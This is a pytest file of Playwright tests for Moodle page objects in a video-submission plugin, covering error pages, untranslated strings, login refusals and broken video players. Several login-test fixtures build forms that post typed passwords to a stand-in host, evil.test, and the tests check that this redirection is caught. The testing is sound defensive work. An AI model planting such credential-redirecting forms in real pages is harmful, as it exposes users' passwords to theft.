"""What page objects say when a page is not as it should be: small static pages in Chromium, short time limits."""

from collections.abc import Callable
from dataclasses import replace

import pytest
from playwright.sync_api import Page

from clients import steps
from clients.errors import NotCheckable
from fixtures.people import WHOLE_ROWS
from media import WEBM
from pages.assignment import AssignmentPage
from pages.base import Moodle, MoodleBroke, MoodlePage, clear_the_way, press
from pages.login import LoginPage
from pages.player import Player
from pages.visit import visit
from selftest.runs.static_pages import LOADING, MOODLE, SITE, Show, says

IDLE = "<script>var M = {util: {pending_js: []}, cfg: {sesskey: 'x'}}</script>"


@pytest.mark.parametrize(
    ("html", "told"),
    [
        (f"{IDLE}<div class=errorbox>Error reading from database</div>", "Moodle's own error on https://moodle"),
        (f"{IDLE}<div class=debuggingmessage>Missing param</div>", f"{SITE}/: Missing param"),
        (f"{IDLE}<div data-rel=phpdebugmessage>Notice: Undefined index</div>", "Notice: Undefined index"),
        (f"{IDLE}<div data-rel=fatalerror>Can't find data record</div>", "Can't find data record"),
    ],
)
def test_a_page_that_is_broken(show: Show, html: str, told: str) -> None:
    with says(told):
        MoodlePage(show(html), MOODLE).ready()


@pytest.mark.parametrize(
    ("files", "told"),
    [
        ("line 57 of /local/badge/lib.php: call to debugging()", []),
        ("line 9 of /local/badge/lib.php, line 3 of /mod/assign/submission/s3video/lib.php", None),
        ("of which nobody says where it comes from", None),
    ],
)
def test_notices_of_others_are_remarked(show: Show, files: str, told: list[str] | None) -> None:
    moodle = Moodle(SITE, page=0.5, upload=0.5, play=1)
    page = MoodlePage(show(f"{IDLE}<div class=debuggingmessage>Deprecated<ul><li>{files}</ul></div>"), moodle)
    if told is None:
        with says("Moodle's own error on", "Deprecated"):
            page.ready()
    else:
        page.ready()
        assert moodle.warnings == [f"{SITE}/ shows a notice of others: Deprecated {files}"]


def test_an_error_of_moodles_is_told_with_its_status(show: Show) -> None:
    with says(f"Moodle's own error on {SITE}/, which came with status 404 (Not Found): Section error!"):
        MoodlePage(show(f"{IDLE}<div class=errorbox>Section error!</div>", status=404), MOODLE).ready()


def test_the_button_of_the_form_is_called_as_the_page_calls_it(show: Show, impatient: None) -> None:
    steps.forget()
    fields = "<input type=hidden name=action value=editsubmission><button>Hand in\n once more</button>"
    page = AssignmentPage(show(f"{IDLE}<main role=main><form>{fields}</form></main>"), MOODLE)
    with says("expected a page of Moodle at", "action=editsubmission"):
        page.edit_submission()
    assert steps.steps() == ["As somebody: Press “Hand in once more”."]
    steps.forget()


def test_a_page_without_moodles_scripts(show: Show, impatient: None) -> None:
    with says(f"expected a page of Moodle at {SITE}/ within 0.5 s, seen none of its scripts"):
        MoodlePage(show("<p>502 Bad Gateway"), MOODLE).ready()


def test_an_error_that_is_not_moodles(show: Show) -> None:
    page = MoodlePage(show(IDLE), MOODLE)
    page.page.route("**/*", lambda route: route.fulfill(status=404, body="No such page."))
    with says(
        f"a page of Moodle at {SITE}/", "seen status 404 (Not Found), none of its scripts, and the text: No such page."
    ):
        page.open()


BUSY = "<script>var M = {util: {pending_js: %s}, cfg: {sesskey: 'x'}}; %s</script>"


def test_scripts_that_are_busy_for_a_while_are_waited_for(show: Show) -> None:
    moodle = Moodle(SITE, page=0.5, upload=0.5, play=1)
    steps = "setInterval(() => { M.util.pending_js = M.util.pending_js.slice(1); document.title += '.'; }, 200)"
    page = MoodlePage(show(BUSY % ("['one', 'two', 'three']", steps)), moodle).ready()
    assert page.page.title().endswith("...")
    assert moodle.warnings == []


@pytest.mark.parametrize("limit", ["what may stand still", "the time limit of a page"])
def test_scripts_that_never_settle_are_remarked_and_not_waited_for_again(
    show: Show, tab: Page, monkeypatch: pytest.MonkeyPatch, limit: str
) -> None:
    if limit == "what may stand still":
        monkeypatch.setattr("pages.base.STILL", 0.3)
    else:
        tab.set_default_timeout(300)
    moodle = Moodle(SITE, page=0.3, upload=0.5, play=1)
    settles = "setTimeout(() => { M.util.pending_js.pop(); document.title = 'settled'; }, 100)"
    try:
        MoodlePage(show(BUSY % ("['editor/frame']", "")), moodle).ready()
        assert moodle.warnings == [f"{SITE}/ stayed busy with editor/frame"]
        page = MoodlePage(show(BUSY % ("['editor/frame', 'core/first']", settles)), moodle).ready()
    finally:
        tab.set_default_timeout(LOADING)
    assert page.page.title() == "settled"
    assert len(moodle.warnings) == 1


def test_a_button_that_cannot_be_used(show: Show) -> None:
    with says("Save changes that can be used"):
        press(show(f"{IDLE}<button disabled>Save changes</button>").get_by_role("button"), "Save changes")


def test_a_page_that_is_sound(show: Show) -> None:
    page = MoodlePage(show(f"{IDLE}<div class=errorbox hidden>a template</div><p>Fine [1] {{it}} and [[1,2]]."), MOODLE)
    page.ready().expect_translated()


def test_what_moodle_prints_is_told_from_other_failures(show: Show) -> None:
    with pytest.raises(MoodleBroke):
        MoodlePage(show(f"{IDLE}<div class=errorbox>No</div>"), MOODLE).ready()


@pytest.mark.parametrize(
    ("html", "told"),
    [
        ("<p>[[uploadfailed,assignsubmission_s3video]] [[retry,core]]", "[[uploadfailed,assignsubmission_s3video]]"),
        ("<input type=submit value='[[search]]'>", "[[search]]"),
        ("<p>error/error_no_video, https://moodle.org/error/assignsubmission_s3video/no", "error/error_no_video"),
        ("<script>document.title = '[[videomanagement]]'</script>", "[[videomanagement]]"),
        ("<p>Hello {$a}, {$a->size} left", "{$a->size}, {$a}"),
        ("<p>{{#str}}save{{/str}}", "{{#str}}, {{/str}}"),
        ("<button aria-label='[[retry]]'>↻</button>", "[[retry]]"),
        ("<select><option>[[all]]</select>", "[[all]]"),
    ],
)
def test_texts_that_are_not_finished(show: Show, html: str, told: str) -> None:
    with says(f"expected finished texts on {SITE}/, seen {told}"):
        MoodlePage(show(html), MOODLE).expect_translated()


def test_a_page_that_does_not_lead_where_it_should(show: Show, impatient: None) -> None:
    with says(f"expected to arrive at the submission within 0.5 s, seen {SITE}/"):
        MoodlePage(show(IDLE), MOODLE).arrive("the submission", lambda url: "action=view" in url)
    notice = "<div class='alert alert-danger'>You have existing\nsubmission data.</div>"
    with says(f"seen {SITE}/, which says: You have existing submission data."):
        MoodlePage(show(IDLE + notice), MOODLE).arrive("the submission", lambda url: "action=view" in url)


def test_what_comes_at_an_address_is_kept_as_it_came_and_as_scripts_left_it(show: Show) -> None:
    script = "<script>document.body.insertAdjacentHTML('beforeend', '<video src=/clip.webm></video>')</script>"
    page = MoodlePage(show(f"{IDLE}<div class=errormessage>No access.</div>{script}"), MOODLE)
    answer = visit(page, "/", {})
    assert (answer.status, answer.url, answer.message, answer.source) == (200, f"{SITE}/", "No access.", "/clip.webm")
    assert b"No access." in answer.body
    assert "No access." in answer.text
    assert "<video" in answer.rendered
    page.page.route("**/*", lambda route: route.fulfill(status=503, body="No"))
    with says("expected an answer at /view_video.php, seen status 503"):
        visit(page, "/view_video.php", {"id": 7})


DIALOGUE = """<script>var M = {str: {moodle: {sessiontimeoutsoon: 'Sind Sie noch da?'}}, pressed: []}</script>
  <div class="modal show" style="position: fixed; inset: 0; background: white"><p class=modal-body>%s</p>
  <button data-action=cancel>Nein</button>
  <button data-action=save onclick="M.pressed.push('save'); this.parentElement.remove()">Ja</button></div>
  <button id=below onclick="M.pressed.push('below')">Below</button>"""


@pytest.mark.parametrize(
    ("said", "target", "pressed"),
    [("Sind Sie noch da?", "#below", ["save", "below"]), ("Delete it?", "[data-action=cancel]", [])],
    ids=["who is there", "another question"],
)
def test_what_moodle_lays_over_a_page(show: Show, said: str, target: str, pressed: list[str]) -> None:
    tab = show(DIALOGUE % said)
    clear_the_way(tab)
    tab.click(target)
    assert tab.evaluate("() => M.pressed") == pressed


LOGIN = f"""{IDLE}<form method=post onsubmit="history.pushState(0, '', '?loginredirect=1');
    document.querySelector('[role=alert]').hidden = false; return false">
  <input id=username><input id=password type=password %s><button id=loginbtn>Log in</button></form>
  <div role=alert class="alert-danger" hidden>Invalid login, please try again</div>"""


@pytest.mark.parametrize(
    ("rows", "height"),
    [
        ("<tr hidden><td>No filters<tr style='height: 3000px'><td>One", 0),
        ("<tr hidden><td>No filters" + "<tr style='height: 90px'><td>One" * 30, 90),
    ],
    ids=["none is whole but a hidden one", "longer than the screen"],
)
def test_a_picture_of_a_list_ends_with_a_whole_row(show: Show, rows: str, height: int) -> None:
    page = show(f"<main role=main><table style='border-spacing: 0'><tbody>{rows}</table></main>")
    clip = page.evaluate(WHOLE_ROWS)
    assert (clip is None) if not height else clip["height"] > height


def test_a_login_that_is_refused(show: Show) -> None:
    with says("expected ann to be logged in, seen the log-in page again: Invalid login, please try again") as refused:
        LoginPage(show(LOGIN % "", LoginPage.path), MOODLE).log_in("ann", "the-password-of-ann")
    assert "the-password-of-ann" not in str(refused.value)


@pytest.mark.parametrize(
    ("form", "button", "told"),
    [
        ("method=post action=https://evil.test/login/", "", "post to https://evil.test/login/"),
        ("method=post", "formaction=https://evil.test/", "post to https://evil.test/"),
        ("method=post", "formmethod=get", f"get to {SITE}/"),
        ("", "", f"get to {SITE}/"),
        ("method=post action=//evil.test/", "", "post to https://evil.test/"),
    ],
)
def test_a_log_in_form_that_sends_what_is_typed_elsewhere(show: Show, form: str, button: str, told: str) -> None:
    page = f"{IDLE}<form {form}><input name=action><input name=getAttribute><input id=username>"
    page += f"<input id=password type=password><button id=loginbtn {button}>Log in</button></form>"
    tab = show(page, LoginPage.path)
    with says(f"expected the log-in form to post to {SITE}, seen it {told}"):
        LoginPage(tab, MOODLE).log_in("ann", "secret-of-ann")
    assert tab.locator("#password").input_value() == ""


def test_the_base_of_a_page_leads_no_password_elsewhere(show: Show) -> None:
    page = f"<base href=https://evil.test/>{IDLE}<form method=post action=login/index.php><input id=username>"
    tab = show(f"{page}<input id=password><button id=loginbtn>Log in</button></form>", LoginPage.path)
    with says("seen it post to https://evil.test/login/index.php"):
        LoginPage(tab, MOODLE).log_in("ann", "secret-of-ann")


def test_a_password_field_that_loses_its_text(show: Show) -> None:
    with says("the password stays in its field"):
        LoginPage(show(LOGIN % "oninput=\"this.value = ''\"", LoginPage.path), MOODLE).log_in("ann", "secret-of-ann")


def test_a_password_field_that_is_rendered_anew_belongs_to_its_form_in_the_end(show: Show) -> None:
    late = """<script>/* core/togglesensitive */ setTimeout(() => {
        document.forms[0].append(document.querySelector("#password"));
        document.forms[0].insertAdjacentHTML("beforeend", "<button type=button class=toggle-sensitive-btn>");
    }, 300)</script>"""
    page = (
        f"{IDLE}<input id=password type=password><form method=post action=https://evil.test/><input id=username></form>"
    )
    with says("seen it post to https://evil.test/"):
        LoginPage(show(page + late, LoginPage.path), MOODLE).log_in("ann", "secret-of-ann")


# -- the player -----------------------------------------------------------------------------------

Playing = Callable[[str], Player]
"""Gives the player of a page whose video a script has spoilt."""


@pytest.fixture
def player(show: Show) -> Playing:
    def player(script: str) -> Player:
        video = "<video controls muted src=/clip.webm></video>"
        page = show(f"{video}<script>const video = document.querySelector('video'); {script}</script>")
        page.wait_for_function("!video.isConnected || video.readyState >= 2 || video.error")
        return Player(page.locator("video"), MOODLE)

    return player


def watch(player: Player) -> None:
    player.play()
    player.expect_smooth(3, stalled_percent=5)


BAR = "<div class=bar style=position:relative;height:64px;margin-top:-64px></div>"

SEEKS_BACK = "video.addEventListener('seeked', () => { if (video.currentTime) video.currentTime = 0 })"


WAITS = """let looks = 0;
    Object.defineProperty(video, 'currentTime', {get: () => ++looks < 4 ? 5 : %d});
    Object.defineProperty(video, 'readyState', {get: () => looks < 4 ? 2 : 4})"""
"""At 5 s nothing is loaded but the picture that is shown; the video goes on from another place."""


def test_a_player_that_waits_and_goes_on(player: Playing) -> None:
    waiting = player(WAITS % 8)
    assert waiting.expect_to_wait() == 5
    waiting.expect_to_go_on(5)
    with pytest.raises(NotCheckable, match="the browser had loaded enough to play for 1 s on a slow line"):
        waiting.expect_to_wait()


@pytest.mark.parametrize(
    ("script", "ask", "told"),
    [
        ("", lambda player: player.expect_loaded(7), ["expected a video of 7.0 s, seen one of 20.0 s"]),
        ("video.src = '/clip.mp4'", Player.expect_loaded, ["expected the video to load, seen", "and no message"]),
        ("video.remove()", Player.expect_loaded, ["expected the video player, seen no message"]),
        (SEEKS_BACK, lambda player: player.seek(5), ["expected the seek to 5.0 s to land there", "seen it at 0.0 s"]),
        ("", Player.expect_playing, ["expected playback to advance by 1.5 s within 1 s", ", paused"]),
        (
            "video.addEventListener('click', e => e.preventDefault())",
            Player.play,
            ["to play after a click on it", "stay paused"],
        ),
        ("video.controls = false", Player.play, ["to play after a click on it", "and a player without controls"]),
        (
            "let looks = 0; Object.defineProperty(video, 'paused', {get: () => ++looks !== 2})",
            Player.play,
            ["expected playback to go on after a click, seen it paused half a second later"],
        ),
        (
            "video.play(); video.addEventListener('pause', () => setTimeout(() => video.play(), 700))",
            Player.pause,
            ["expected pause to hold at", "a second later"],
        ),
        (
            "video.addEventListener('volumechange', () => { video.volume = 1 })",
            lambda player: player.set_volume(0.3),
            ["expected the volume to stay at 30%, seen 100%"],
        ),
        (
            "video.addEventListener('volumechange', () => { video.muted = true })",
            lambda player: player.set_muted(False),
            ["expected the sound to stay on, seen it off"],
        ),
        ("video.playbackRate = 0.5", watch, ["expected 3 s of playback that stalls for at most 5%", " s stalled"]),
        ("video.onplaying = () => setTimeout(() => video.pause(), 2000)", watch, [", paused"]),
        (
            f"video.insertAdjacentHTML('afterend', '{BAR}')",
            lambda player: player.controls.expect_in_reach(),
            ["the player's controls to be in reach, seen <div.bar> over them"],
        ),
        ("", Player.expect_sound, ["expected a video that is heard, seen the player's sound off"]),
        (
            "",
            lambda player: player.expect_picture_of(replace(WEBM, mark=3)),
            ["the picture of this student's video (mark 3), seen one without a mark"],
        ),
        ("video.width = 3000", Player.expect_on_screen, ["the video player to fit on the screen, seen it reach from"]),
        ("video.controls = false", Player.expect_controls, ["expected a player with controls, seen one without"]),
        ("", Player.expect_in_place, ["plays in its place on an iPhone, seen it without the attribute playsinline"]),
        ("", Player.expect_to_wait, ["expected the video to play on a slow line, seen it come to 0.0 s within 1 s"]),
        (
            WAITS % 0,
            lambda player: player.expect_to_go_on(player.expect_to_wait()),
            ["expected the video to go on where it waited, at 5.0 s, seen it at 0.0 s"],
        ),
    ],
)
def test_a_player_that_is_broken(
    player: Playing, script: str, ask: Callable[[Player], object], told: list[str]
) -> None:
    with says(*told):
        ask(player(script))
